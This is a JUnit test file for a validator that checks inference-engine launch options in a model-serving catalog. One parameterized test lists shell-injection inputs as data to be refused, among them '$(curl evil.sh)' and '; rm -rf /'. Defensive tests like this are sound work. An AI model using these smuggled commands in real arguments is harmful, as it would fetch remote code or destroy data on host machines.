package io.athgrid.maas.catalog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EngineArgsTest {

    @Test
    void options_are_flags_with_or_without_a_value() {
        EngineArgs args = new EngineArgs(List.of("--tensor-parallel-size 4", "--max-model-len=65536",
                "--enable-prefix-caching", "--reasoning-parser deepseek_r1", "--gpu-memory-utilization 0.92"));

        assertThat(args.tensorParallelSize()).isEqualTo(4);
        assertThat(args.maxModelLen()).hasValue(65_536);
        assertThat(args.has("--enable-prefix-caching")).isTrue();
        assertThat(args.has("--enforce-eager")).isFalse();
        assertThat(args.value("--reasoning-parser")).hasValue("deepseek_r1");
        assertThat(args.value("--enable-prefix-caching")).isEmpty();
    }

    @Test
    void without_options_the_engine_runs_on_one_gpu_at_the_models_own_context() {
        assertThat(EngineArgs.none().tensorParallelSize()).isEqualTo(1);
        assertThat(EngineArgs.none().pipelineParallelSize()).isEqualTo(1);
        assertThat(EngineArgs.none().maxModelLen()).isEmpty();
    }

    @Test
    void argv_splits_flag_and_value_for_a_process_started_without_a_shell() {
        EngineArgs args = new EngineArgs(List.of("--tensor-parallel-size 4", "--max-model-len=65536",
                "--enforce-eager"));

        assertThat(args.argv()).containsExactly("--tensor-parallel-size", "4", "--max-model-len=65536",
                "--enforce-eager");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "--chat-template $(curl evil.sh)", "--dtype bfloat16; rm -rf /", "--dtype `id`", "--dtype a|b",
        "--dtype a&b", "--dtype 'bf16'", "--dtype \"bf16\"", "--dtype a>b", "--dtype a  b", "--dtype\tbf16",
        "--dtype bf16\n--model x", "--rope-scaling {\"type\":\"yarn\"}", "--dtype *", "--dtype ~/x", "--dtype $HOME",
        "-tp 4", "tensor-parallel-size 4", "--Tensor-Parallel-Size 4", "--", "--dtype ", "--dtype=", ""})
    void shell_metacharacters_and_malformed_options_are_refused(String option) {
        List<Violation> violations = EngineArgs.check(List.of("--enforce-eager", option));

        assertThat(violations).singleElement().satisfies(violation ->
                assertThat(violation.field()).isEqualTo("engineArgs[1]"));
        assertThatIllegalArgumentException().isThrownBy(() -> new EngineArgs(List.of(option)));
    }

    @Test
    void options_the_deployment_sets_are_refused() {
        assertThat(EngineArgs.check(List.of("--model /weights", "--served-model-name x", "--port 9000",
                "--host 0.0.0.0", "--api-key k", "--trust-remote-code")))
                .extracting(Violation::message)
                .containsExactly("--model is set by the deployment: the catalog id names the weights",
                        "--served-model-name is set by the deployment: the model is served under its catalog id",
                        "--port is set by the deployment", "--host is set by the deployment",
                        "--api-key is set by the deployment",
                        "--trust-remote-code would run code from the model repository on providers' machines");
    }

    @Test
    void a_flag_is_given_once() {
        assertThat(EngineArgs.check(List.of("--max-model-len 8192", "--max-model-len=4096")))
                .singleElement().satisfies(violation -> {
                    assertThat(violation.field()).isEqualTo("engineArgs[1]");
                    assertThat(violation.message()).isEqualTo("repeats --max-model-len");
                });
    }

    @ParameterizedTest
    @ValueSource(strings = {"--tensor-parallel-size", "--tensor-parallel-size 0", "--max-model-len 32k",
        "--pipeline-parallel-size -1", "--max-model-len 1000000000"})
    void sizes_are_whole_numbers(String option) {
        assertThat(EngineArgs.check(List.of(option))).singleElement()
                .satisfies(violation -> assertThat(violation.message()).contains("takes a whole number"));
    }

    @Test
    void options_are_limited_in_number_and_length() {
        assertThat(EngineArgs.check(Collections.nCopies(33, "--enforce-eager"))).singleElement()
                .satisfies(violation -> assertThat(violation.field()).isEqualTo("engineArgs"));
        assertThat(EngineArgs.check(List.of("--chat-template " + "a".repeat(200)))).hasSize(1);
    }
}
